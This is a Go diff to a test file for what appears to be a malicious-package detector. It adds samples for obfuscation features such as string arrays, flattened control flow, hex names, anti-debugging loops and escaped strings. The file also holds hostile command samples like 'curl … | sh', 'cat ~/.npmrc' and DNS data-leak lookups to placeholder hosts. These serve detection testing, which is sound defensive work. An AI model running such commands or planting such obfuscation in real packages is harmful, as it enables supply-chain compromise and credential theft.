@@ -1,6 +1,7 @@
 package feature
 
 import (
+	"encoding/base64"
 	"fmt"
 	"regexp"
 	"slices"
@@ -80,7 +81,11 @@ var uses = map[string]struct{ once, never []string }{
 			`(() => {}).constructor(x)()`, `WebAssembly.instantiate(x)`, `globalThis['ev' + 'al'](x)`},
 		never: []string{`x instanceof Function`, `setTimeout(f, 1)`, `setTimeout(() => {}, 1)`, `require('a')`, `import('./a')`, `x.eval(y)`, `const eval2 = 1`, `WebAssembly`, `typeof require`, `require.resolve('x')`},
 	},
-	"minified":    {},
+	"minified": {
+		once: []string{"!function(){" + strings.Repeat("var a=1,b=2;if(a>b){c(a,b)}else{d(a+b,[a,b],{a:b})}for(var i=0;i<9;i++)e(i,a[i],b[i]);", 60) + "}();"},
+		never: []string{strings.Repeat("const total = add(first, second);\nif (total > limit) {\n  report(total);\n}\n", 60), "const table = ['" + strings.Repeat("abc', '", 900) + "'];",
+			"// " + strings.Repeat("all rights reserved, ", 300) + "\nf();"},
+	},
 	"environment": {once: []string{`process.env.HOME`, `process['env'].X`, `const {PATH} = process.env; f(PATH)`, `const {env} = process; env.A`, `process.env[x]`, `import {env} from 'process'; env.B`}, never: []string{`x.env.Y`, `process.environment`, `env.X`, `process.env`, `const process = {env: {}}; process.env.X`, `process.env.X = 1`}},
 	"environment-whole": {
 		once:  []string{`JSON.stringify(process.env)`, `({...process.env})`, `Object.keys(process.env)`, `f(process.env)`, `const e = process.env; f(e)`},
@@ -109,15 +114,33 @@ var uses = map[string]struct{ once, never []string }{
 	"oast-hosts":   {once: []string{`'x.oast.fun.invalid'`, `'http://a.interact.sh.invalid'`}, never: []string{`'toast.fun.invalid'`, `'boast.fun'`}},
 	"dns-data":     {once: []string{"require('dns').lookup(`${x}.h.invalid`)", `require('dns').resolve(a + '.h.invalid', f)`}, never: []string{`require('dns').lookup('h.invalid')`, `require('dns').lookup(host, cb)`, `require('dns').setServers(a + b)`}},
 
-	"decoded-code":           {once: []string{`eval(atob('YWxlcnQoMSk7YWxlcnQoMik7YWxlcnQoMyk7'))`}, never: []string{`eval(x)`, `atob(x)`}},
-	"string-arrays":          {},
-	"flattened-control-flow": {},
-	"hex-names":              {},
-	"self-defence":           {},
-	"escaped-strings":        {},
-	"dense-literals":         {},
-	"invisible-characters":   {once: []string{"var a = 1; // \u202e x"}, never: []string{`"\u202e"`, "var é = '👩‍👩‍👧'"}},
-	"pushed-code":            {once: []string{"x();" + strings.Repeat(" ", 500) + "y();"}, never: []string{"x();" + strings.Repeat(" ", 20) + "y();", strings.Repeat(" ", 500) + "\nx()"}},
+	"decoded-code": {once: []string{`eval(atob('YWxlcnQoMSk7YWxlcnQoMik7YWxlcnQoMyk7'))`}, never: []string{`eval(x)`, `atob(x)`}},
+	"string-arrays": {
+		once:  []string{"function a(){const t=['log','info','warn','error','table','trace','debug','dir','group','count','assert','time'];a=function(){return t};return a()}function g(i){return a()[i-0x1f]}console[g(0x1f)](1);console[g(0x20)](2);console[g(0x21)](3);console[g(0x22)](4);"},
+		never: []string{"const names = ['log', 'info', 'warn', 'error', 'table', 'trace', 'debug', 'dir', 'group', 'count']; for (const n of names) console[n](1);"},
+	},
+	"flattened-control-flow": {
+		once:  []string{"const o='3|0|2|1'.split('|');let i=0;while(!![]){switch(o[i++]){case'0':b();continue;case'1':d();continue;case'2':c();continue;case'3':a();continue;}break;}"},
+		never: []string{"while (true) { switch (next()) { case 1: a(); continue; case 2: b(); continue; } break; }", "switch (x) { case '0': a(); case '1': b(); }"},
+	},
+	"hex-names": {
+		once:  []string{"var _0x1a2b=1,_0x3c4d=2,_0x5e6f=3,_0x7a8b=4,_0x9c0d=5,_0x1e2f=6;f(_0x1a2b,_0x3c4d,_0x5e6f,_0x7a8b,_0x9c0d,_0x1e2f)"},
+		never: []string{"var a = 0x1a2b, b = 0x3c4d, c = 0x5e6f;", "var _0x = 1;", "f('_0x1a2b', '_0x3c4d', '_0x5e6f', '_0x7a8b')"},
+	},
+	"self-defence": {
+		once:  []string{"setInterval(function () { debugger; }, 100)"},
+		never: []string{"debugger;", "setInterval(function () { poll(); }, 100)", "f('debugger')"},
+	},
+	"escaped-strings": {
+		once:  []string{`f('\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73')`},
+		never: []string{`f('\u00e9\u00e8\u00e0\u00fc\u00f6\u00e4\u00df\u00e7\u00f1\u00e5')`, `f('\x1b[31m')`, `f(/\x63\x68\x69\x6c\x64\x5f\x70\x72/)`},
+	},
+	"dense-literals": {
+		once:  []string{"f('" + dense() + "')"},
+		never: []string{"f('" + strings.Repeat("the quick brown fox ", 30) + "')", "// " + dense()},
+	},
+	"invisible-characters": {once: []string{"var a = 1; // \u202e x"}, never: []string{`"\u202e"`, "var é = '👩‍👩‍👧'"}},
+	"pushed-code":          {once: []string{"x();" + strings.Repeat(" ", 500) + "y();"}, never: []string{"x();" + strings.Repeat(" ", 20) + "y();", strings.Repeat(" ", 500) + "\nx()"}},
 
 	"command-download": {once: []string{`require('child_process').exec('curl -o x http://h.invalid/')`}, never: []string{`'curl http://h.invalid'`, `exec('curl x')`}},
 	"command-run":      {once: []string{`require('child_process').exec('curl http://h.invalid/ | sh')`}, never: []string{`require('child_process').exec('curl -o x http://h.invalid/')`}},
@@ -127,6 +150,17 @@ var uses = map[string]struct{ once, never []string }{
 	"command-traces":   {once: []string{`require('child_process').exec('rm package.json')`}, never: []string{`require('child_process').exec('rm -rf dist')`}},
 	"command-secrets":  {once: []string{`require('child_process').exec('cat ~/.npmrc')`}, never: []string{`require('child_process').exec('cat README.md')`}},
 	"command-publish":  {once: []string{`require('child_process').exec('npm publish')`}, never: []string{`require('child_process').exec('npm --version')`}},
+}
+
+// dense is text in base64 that stands for no known kind of data.
+func dense() string {
+	var b []byte
+	state := uint32(12345)
+	for range 300 {
+		state = state*1664525 + 1013904223
+		b = append(b, byte(state>>24))
+	}
+	return base64.StdEncoding.EncodeToString(b)
 }
 
 // packageFeatures are tested apart: they are not of scripts alone.
